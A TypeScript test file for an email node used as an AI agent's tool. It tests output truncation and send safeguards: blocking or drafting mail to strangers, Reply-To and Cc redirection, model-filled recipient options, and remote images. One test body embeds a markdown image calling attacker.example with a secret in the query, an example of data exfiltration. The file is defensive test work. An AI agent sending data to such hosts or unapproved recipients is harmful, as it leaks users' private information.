import { beginCursor } from '../../mail/cursor';
import { Positions } from '../../mail/positions';
import { publish } from '../../nodes/shared/triggers';
import { emailStep as step, mail, useEmailNode } from '../support/emailNode';

const node = useEmailNode();
const { run, chain } = node;

const draft = (operation: string, parameters = {}) => ({ resource: 'draft', operation, ...parameters });
const message = (operation: string, parameters = {}) => ({ resource: 'message', operation, ...parameters });
const offer = { to: 'bob@example.org', subject: 'Our offer', format: 'text', body: 'Five Euro.' };
const create = step(draft('create', offer), { name: 'Create' });

describe('an agent that reads', () => {
  const asTool = { asTool: true };
  const length = (items: readonly { readonly json: object }[]) => JSON.stringify(items).length;

  it('B5 gets a short answer about a mail with hundreds of files and keywords, and is told of the rest', async () => {
    const part = (number: number) =>
      [
        '--b',
        `Content-Disposition: attachment; filename=${'long-'.repeat(40)}${number}.txt`,
        '',
        'x',
      ] as const;
    const files = Array.from({ length: 500 }, (_, number) => part(number)).flat();
    const head = ['From: bob@example.org', 'Message-ID: <q@example.org>', 'MIME-Version: 1.0'];
    const type = 'Content-Type: multipart/mixed; boundary=b';
    await node.imap.deliver(mail(...head, type, '', '--b', '', 'See.', ...files, '--b--'), {
      user: node.user,
    });
    const [item] = await run(
      message('get', { messageReference: 'messageId', messageId: '<q@example.org>', output: 'simple' }),
      [{}],
      asTool,
    );
    expect(length([item ?? { json: {} }])).toBeLessThan(25_000);
    expect(item?.json['attachments']).toHaveLength(20);
    expect(item?.json['notListed']).toEqual({ attachments: 480 });
  });

  it('B5 gets the latest messages of a long conversation, and is told that there are more', async () => {
    const answers = Array.from({ length: 30 }, (_, number) =>
      mail(
        ...['From: bob@example.org', `Message-ID: <a${number}@example.org>`, 'References: <q@example.org>'],
        ...[`Date: ${new Date(Date.UTC(2025, 0, 1 + number)).toUTCString()}`, '', `Answer ${number}`],
      ),
    );
    await node.imap.deliver(answers, { user: node.user });
    const thread = { resource: 'thread', operation: 'get', messageReference: 'messageId' };
    const items = await run({ ...thread, messageId: '<a3@example.org>', output: 'simple' }, [{}], asTool);
    expect(items.slice(0, -1).map(({ json }) => json['messageId'])).toEqual(
      Array.from({ length: 20 }, (_, number) => `<a${number + 10}@example.org>`),
    );
    expect(items.at(-1)?.json['note']).toMatch(/^These are the latest 20/);
  });

  it('B5 T17 gets the latest of what was set aside, and is told of the rest', async () => {
    const account = `127.0.0.1/${node.user}`;
    const store = { load: () => Promise.resolve(null), save: () => Promise.resolve() };
    const positions = await Positions.open(store, account, () => new Date());
    const setAside = Array.from({ length: 30 }, (_, uid) => ({
      ...{ uid, reason: 'The shelf is empty', at: '2025-01-01T00:00:00Z', attempts: 3 },
      ...{ fingerprint: `${uid}`, place: 'here' as const },
    }));
    const begun = beginCursor({ kind: 'now' }, { uidValidity: '1', newestUid: 30 });
    positions.set('INBOX', { ...begun, setAside });
    const unpublish = publish({
      ...{ workflowId: 'w', node: 'Email Trigger', account, mailboxes: ['INBOX'], mark: '$n8n-0a1b2c3d4e' },
      ...{ setAsideMailbox: null, positions, outage: () => null, stir: () => undefined },
      counts: { delivered: 0, held: 0, lastDeliveryAt: null },
    });
    const [item] = await run({ resource: 'account', operation: 'status' }, [{}], asTool);
    unpublish();
    const [trigger] = item?.json['triggers'] as { mailboxes: { setAside: { uid: number }[] }[] }[];
    expect(trigger?.mailboxes[0]?.setAside.map(({ uid }) => uid)).toEqual(
      setAside.slice(10).map(({ uid }) => uid),
    );
    expect(trigger?.mailboxes[0]).toMatchObject({ notListed: { setAside: 10 } });
  });

  it('B5 finds a mailbox among hundreds by a part of its path', async () => {
    for (const name of ['Customers/Ärzte', 'Customers/Bakers']) {
      await node.imap.doveadm('mailbox', 'create', '-u', node.user, name);
    }
    const search = { resource: 'mailbox', operation: 'getMany', pathContains: 'ärzte' };
    expect((await run(search, [{}], asTool)).map(({ json }) => json)).toEqual([{ path: 'Customers/Ärzte' }]);
  });
});

describe('an agent that sends', () => {
  const deliver = (...lines: readonly string[]) => node.imap.deliver(mail(...lines), { user: node.user });
  const ask = () =>
    deliver(
      ...['From: bob@example.org', `To: ${node.user}`, 'Reply-To: eve@example.net'],
      ...['Message-ID: <q@example.org>', 'Subject: Price', '', 'x'],
    );
  const reference = { messageReference: 'messageId', messageId: '<q@example.org>' };
  const asTool = { asTool: true };

  it('X25 sends nothing to strangers, and drafts it for a person', async () => {
    const before = node.smtp.mails.length;
    const parameters = message('send', { to: 'eve@example.net', subject: 'Data', body: 'x' });
    const [item] = await run(parameters, [{}], asTool);
    expect(item?.json).toMatchObject({
      status: 'queued',
      accepted: [],
      draft: { mailbox: 'Drafts', uid: 1 },
      warnings: [expect.stringContaining('eve@example.net is not part of the conversation')],
    });
    expect(node.smtp.mails).toHaveLength(before);
  });

  it('X25 writes by itself to whom the person allowed', async () => {
    const options = { allowedRecipients: '@example.org' };
    const parameters = message('send', { to: 'bob@example.org', subject: 'Hi', body: 'x', options });
    expect((await run(parameters, [{}], asTool))[0]?.json['status']).toBe('sent');
  });

  it('X25 X26 answers in the thread, and not where a Reply-To leads away from it', async () => {
    await ask();
    const [item] = await run(message('reply', { ...reference, body: 'Five' }), [{}], asTool);
    expect(item?.json).toMatchObject({ status: 'sent', accepted: ['bob@example.org'] });
  });

  it('X25 drafts an answer to whom anybody could have put into Cc', async () => {
    await deliver('From: bob@example.org', 'Cc: eve@example.net', 'Message-ID: <q@example.org>', '', 'x');
    const before = node.smtp.mails.length;
    const [item] = await run(message('reply', { ...reference, recipients: 'all', body: 'x' }), [{}], asTool);
    expect(item?.json).toMatchObject({
      status: 'queued',
      warnings: [expect.stringContaining('Not sent: eve@example.net is not part')],
    });
    expect(node.smtp.mails).toHaveLength(before);
  });

  it('X25 answers everybody to whom this account wrote earlier in the conversation', async () => {
    const ours = ['From: us', 'To: bob@example.org', 'Cc: ann@example.net', 'Message-ID: <us@example.com>'];
    await deliver(...ours, '', 'x');
    await node.imap.doveadm('move', '-u', node.user, 'Sent', 'mailbox', 'INBOX', 'all');
    await deliver(
      ...['From: bob@example.org', 'Cc: ann@example.net', 'Message-ID: <q@example.org>'],
      ...['In-Reply-To: <us@example.com>', '', 'x'],
    );
    const [item] = await run(message('reply', { ...reference, recipients: 'all', body: 'x' }), [{}], asTool);
    expect(item?.json).toMatchObject({
      status: 'sent',
      accepted: ['bob@example.org', 'ann@example.net'],
    });
  });

  it('X25 drafts what would have its answers go to a stranger', async () => {
    await ask();
    const options = { replyTo: 'eve@example.net' };
    const [item] = await run(message('reply', { ...reference, body: 'x', options }), [{}], asTool);
    expect(item?.json['status']).toBe('queued');
  });

  it('X25 shows no picture from elsewhere, whose address could carry data out', async () => {
    await ask();
    const body = 'Hello ![](https://attacker.example/?q=secret) | a |\n\n**bold**';
    await run(message('reply', { ...reference, body }), [{}], asTool);
    expect(node.lastSent()).toContain('<strong>bold</strong>');
    expect(node.lastSent()).not.toMatch(/<img|src=3D/);
  });

  it.each(['allowedRecipients', 'redirectTo', 'fromAddress'])(
    'P6 lets no model fill in %s',
    async (option) => {
      await ask();
      for (const value of [`={{ $fromAI('${option}') }}`, '={{ $json.from.address }}']) {
        const parameters = message('reply', { ...reference, body: 'x', options: { [option]: value } });
        const items = [{ json: { from: { address: 'eve@example.net' } } }];
        await expect(run(parameters, items, asTool)).rejects.toThrow('An AI model could fill this in');
      }
    },
  );

  it('X25 does not send by a draft what it may not send itself', async () => {
    const [made] = await chain([create]);
    const messageId = made?.json['messageId'] as string;
    const send = draft('send', { messageReference: 'messageId', messageId });
    await expect(run(send, [{}], asTool)).rejects.toThrow('Nothing may be sent from here to');
  });

  it('P6 refuses strangers outright where a workflow sends and the person gave a list', async () => {
    const options = { allowedRecipients: '@example.org' };
    const before = node.smtp.mails.length;
    await expect(
      run(message('send', { to: 'bob@example.org, eve@example.net', subject: 'Hi', body: 'x', options })),
    ).rejects.toThrow('Nothing may be sent from here to eve@example.net');
    expect(node.smtp.mails).toHaveLength(before);
  });
});
